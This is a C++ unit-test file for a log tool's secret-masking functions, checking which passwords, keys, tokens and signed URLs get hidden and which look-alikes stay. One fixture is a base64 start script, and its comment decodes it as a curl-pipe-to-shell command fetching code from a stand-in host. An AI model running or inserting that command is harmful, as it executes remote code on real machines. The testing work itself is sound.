#include "report/mask.h"

#include <gtest/gtest.h>


#include "base/json.h"

namespace backtrail::report {
namespace {

struct Row {
  const char* name;
  std::string in;
  std::string out;
};

const std::string kSessionToken =
    "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQDx/abc+DEF0123456789==";
const std::string kWebToken = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlLXZhbHVl";

TEST(MaskSecrets, ReplacesSecretsAndKeepsTheRest) {
  const std::vector<Row> rows = {
      {"json member", R"({"userName":"bob","password":"Hunter2!"})",
       R"({"userName":"bob","password":"[masked]"})"},
      {"space around the colon", R"({"newPassword" : "a b c"})", R"({"newPassword" : "[masked]"})"},
      {"escaped quote inside the value", R"({"password":"a\"b","x":"y"})",
       R"({"password":"[masked]","x":"y"})"},
      {"escaped backslash before the closing quote", R"({"password":"a\\","x":"y"})",
       R"({"password":"[masked]","x":"y"})"},
      {"credentials",
       R"({"credentials":{"accessKeyId":"ASIAIOSFODNN7EXAMPLE","sessionToken":"AbC","expiration":"x"}})",
       R"({"credentials":{"accessKeyId":"ASIAIOSFODNN7EXAMPLE","sessionToken":"[masked]","expiration":"x"}})"},
      {"secret key", R"({"secretAccessKey":"wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"})",
       R"({"secretAccessKey":"[masked]"})"},
      {"JSON kept as text",
       R"({"requestParameters":"{\"masterUserPassword\":\"p4ss\",\"engine\":\"mysql\"}"})",
       R"({"requestParameters":"{\"masterUserPassword\":\"[masked]\",\"engine\":\"mysql\"}"})"},
      {"JSON in text in text", R"("{\"a\":\"{\\\"password\\\":\\\"p\\\"}\"}")",
       R"("{\"a\":\"{\\\"password\\\":\\\"[masked]\\\"}\"}")"},
      {"environment variable", R"({"variables":{"DB_PASSWORD":"x1","STAGE":"prod"}})",
       R"({"variables":{"DB_PASSWORD":"[masked]","STAGE":"prod"}})"},
      {"a cut value", R"({"password":"abc)", R"({"password":"[masked])"},
      {"form", "user=bob&password=hunter2&x=1", "user=bob&password=[masked]&x=1"},
      {"command line", "mysql --password hunter2 --host db", "mysql --password [masked] --host db"},
      {"command line with equals", "mysql --password=hunter2 --host=db",
       "mysql --password=[masked] --host=db"},
      {"environment text", "AWS_SECRET_ACCESS_KEY=wJalr/K7 AWS_REGION=eu-west-1",
       "AWS_SECRET_ACCESS_KEY=[masked] AWS_REGION=eu-west-1"},
      {"presigned url",
       "https://b.s3.amazonaws.com/k?X-Amz-Credential=AKIA/"
       "20260101&X-Amz-Signature=fe5f80f77d5fa3be&x=1",
       "https://b.s3.amazonaws.com/k?X-Amz-Credential=AKIA/20260101&X-Amz-Signature=[masked]&x=1"},
      {"presigned url, old form",
       "https://b/k?AWSAccessKeyId=AKIA&Signature=vjbyPxybdZaNmGa&Expires=1",
       "https://b/k?AWSAccessKeyId=AKIA&Signature=[masked]&Expires=1"},
      {"security token in a url", "?X-Amz-Security-Token=IQoJb3&y=2",
       "?X-Amz-Security-Token=[masked]&y=2"},
      {"header", "Authorization: AWS4-HMAC-SHA256 Credential=AKIA, Signature=abc\nHost: x",
       "Authorization: [masked]\nHost: x"},
      {"bearer in a sentence", "curl -H 'Bearer abcdefghijklmnopqrstuv' https://x",
       "curl -H 'Bearer [masked]' https://x"},
      {"session token by its shape", "token was " + kSessionToken + " then",
       "token was [masked] then"},
      {"web token by its shape", "id " + kWebToken + "!", "id [masked]!"},
      {"private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
       "-----BEGIN RSA PRIVATE KEY-----[masked]-----END RSA PRIVATE KEY-----"},
      {"private key without an end", "-----BEGIN PRIVATE KEY-----\nMIIE",
       "-----BEGIN PRIVATE KEY-----[masked]"},
      {"bearer token of three parts", "sent Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln to",
       "sent Bearer [masked] to"},
      {"token of a code host", "git+ghp_abcdefghijklmnopqrstuvwxyz0123456789@host",
       "git+[masked]@host"},
      {"token of a chat", "key xoxb-123456789012-abcdefghijkl.", "key [masked]."},
      {"environment of a container",
       R"({"name":"DB_PASSWORD","value":"x1"},{"name":"A","value":"b"})",
       R"({"name":"DB_PASSWORD","value":"[masked]"},{"name":"A","value":"b"})"},
      {"the same with the value first", R"([{"value": "x1", "name": "API_KEY"}])",
       R"([{"value": "[masked]", "name": "API_KEY"}])"},
      {"parameter of a stack, in text",
       R"("{\"parameterKey\":\"DBPassword\",\"parameterValue\":\"x1\"}")",
       R"("{\"parameterKey\":\"DBPassword\",\"parameterValue\":\"[masked]\"}")"},
      {"password in an address", "postgres://app:s3cr3t@db.example.com:5432/x",
       "postgres://app:[masked]@db.example.com:5432/x"},
      {"webhook", "to https://hooks.slack.com/services/T0/B0/XyZ now",
       "to https://hooks.slack.com/services/[masked] now"},
      {"options of one letter", "curl -u admin:pw1 https://x; mysql -u root -ppw2 db",
       "curl -u admin:[masked] https://x; mysql -u root -p[masked] db"},
      {"name that ends with pass", R"({"DB_PASS":"x1","dbPass":"x2"})",
       R"({"DB_PASS":"[masked]","dbPass":"[masked]"})"},
      {"code of OAuth", "https://x/?state=1&code=abcdefghijklmnopqrst&x=2",
       "https://x/?state=1&code=[masked]&x=2"},
      {"tokens of other makers", "sk_live_abcdefghijklmnopqrst npm_abcdefghijklmnopqrstuvwxyz",
       "[masked] [masked]"},
      {"start script in base64 that holds a secret",  // export AWS_SECRET_ACCESS_KEY=abcdefgh
       R"({"userData":"IyEvYmluL3NoCmV4cG9ydCBBV1NfU0VDUkVUX0FDQ0VTU19LRVk9YWJjZGVmZ2gK"})",
       R"({"userData":"[masked]"})"},
      {"two secrets", R"({"oldPassword":"a1","newPassword":"b2"})",
       R"({"oldPassword":"[masked]","newPassword":"[masked]"})"},
      {"secret string of Secrets Manager", R"({"name":"db","secretString":"{\"k\":1}"})",
       R"({"name":"db","secretString":"[masked]"})"},
  };
  for (const Row& r : rows) EXPECT_EQ(mask_secrets(r.in), r.out) << r.name;
}

TEST(MaskSecrets, KeepsLookAlikes) {
  const std::vector<std::string> kept = {
      "",
      R"({"accessKeyId":"AKIAIOSFODNN7EXAMPLE"})",
      R"({"passwordResetRequired":false})",
      R"({"password":null})",
      R"({"password":""})",
      R"({"password":"HIDDEN_DUE_TO_SECURITY_REASONS"})",
      R"({"password":"***"})",
      R"({"nextToken":"eyJhbc"})",
      R"({"clientToken":"6ba7b810-9dad-11d1-80b4-00c04fd430c8"})",
      R"({"clientRequestToken":"x"})",
      R"({"secretId":"prod/db"})",
      R"({"secret":"arn:aws:secretsmanager:eu-west-1:111122223333:secret:db-AbCdEf"})",
      R"({"tokenName":"ci"})",
      R"({"eventName":"GetPasswordData","eventSource":"ec2.amazonaws.com"})",
      R"({"minimumPasswordLength":14})",
      R"({"eventName":"CreateAccessKey","keyId":"1234"})",
      "arn:aws:iam::111122223333:user/password",
      "2023-07-10T11:42:31Z",
      "https://example.com/?page=2&sort=name",
      "Basic auth was used",
      "eyJust a word",
      "ghp_short and graph and xoxb-",
      "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
      // #!/bin/sh, curl http://198.51.100.7/x | sh: what an intruder lets hosts run is evidence
      R"({"userData":"IyEvYmluL3NoCmN1cmwgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gK"})",
      R"({"name":"Stage","value":"prod"},{"key":"Owner","value":"ops"})",
      R"({"bypass":"x","Compass":"y"})",
      "https://example.com:8443/a@b and s3://bucket/key",
      "http://169.254.169.254/latest/meta-data",
      "cp -p a b; mysql --host db",
      "?code=us-east-1&x=1",
      "da39a3ee5e6b4b0d3255bfef95601890afd80709",
      "aws-cli/2.31.9 md/prompt#off md/command#iam.create-access-key",
  };
  for (const std::string& text : kept) EXPECT_EQ(mask_secrets(text), text);
}

TEST(MaskSecrets, LeavesAnAlertsSignature) {
  const std::string text = R"({"alert":{"signature":"ET SCAN Nmap Scripting Engine","severity":2}})";
  EXPECT_EQ(mask_secrets(text), text);
  EXPECT_EQ(mask_field("event.alert.signature", "ET SCAN Nmap"), "ET SCAN Nmap");
  EXPECT_EQ(mask_field("signature", "vjbyPxybdZaNmGa98765"), "[masked]");
  EXPECT_EQ(mask_secrets(R"({"signature":"fe5f80f77d5fa3be4a1b2c3d"})"), R"({"signature":"[masked]"})");
}

TEST(MaskSecrets, TakesTimeInProportionToTheText) {
  std::string text;
  for (int level = 0; level < 300; ++level) {
    const std::string q = std::string(static_cast<std::size_t>(level), '\\') + "\"";
    text += q + "value" + q + ":" + q;
  }
  for (int i = 0; i < 40000; ++i) text += R"("name":"a://b:","value":"-p -u x","code=")";
  EXPECT_FALSE(mask_secrets(text).empty());  // hours, were each mark to search the whole rest
}

TEST(MaskSecrets, KeepsJsonValid) {
  const std::string in =
      R"({"a":[{"password":"x\u0022,\"y\""},{"Token":"t"}],"b":"{\"sessionToken\":\"s\\\"t\"}"})";
  ASSERT_TRUE(Json::parse(in));
  const auto masked = Json::parse(mask_secrets(in));
  ASSERT_TRUE(masked) << mask_secrets(in);
  EXPECT_EQ((*masked)["a"].as_array()[0]["password"].as_string(), kMasked);
  EXPECT_EQ((*masked)["a"].as_array()[1]["Token"].as_string(), kMasked);
  EXPECT_TRUE(Json::parse((*masked)["b"].as_string()));
}

TEST(MaskSecrets, IsStableWhenRepeated) {
  const std::string once =
      mask_secrets(R"({"password":"x","u":"?Signature=abc","t":")" + kSessionToken + "\"}");
  EXPECT_EQ(mask_secrets(once), once);
}

TEST(MaskField, HidesAColumnOfASecretName) {
  EXPECT_EQ(mask_field("secretaccesskey", "wJalr"), kMasked);
  EXPECT_EQ(mask_field("responseelements.credentials.sessionToken", "AbC"), kMasked);
  EXPECT_EQ(mask_field("eventname", "GetSessionToken"), "GetSessionToken");
  EXPECT_EQ(mask_field("password", ""), "");
  EXPECT_EQ(mask_field("plaintext", R"({"password":"x"})"), R"({"password":"[masked]"})");
}

}  // namespace
}  // namespace backtrail::report
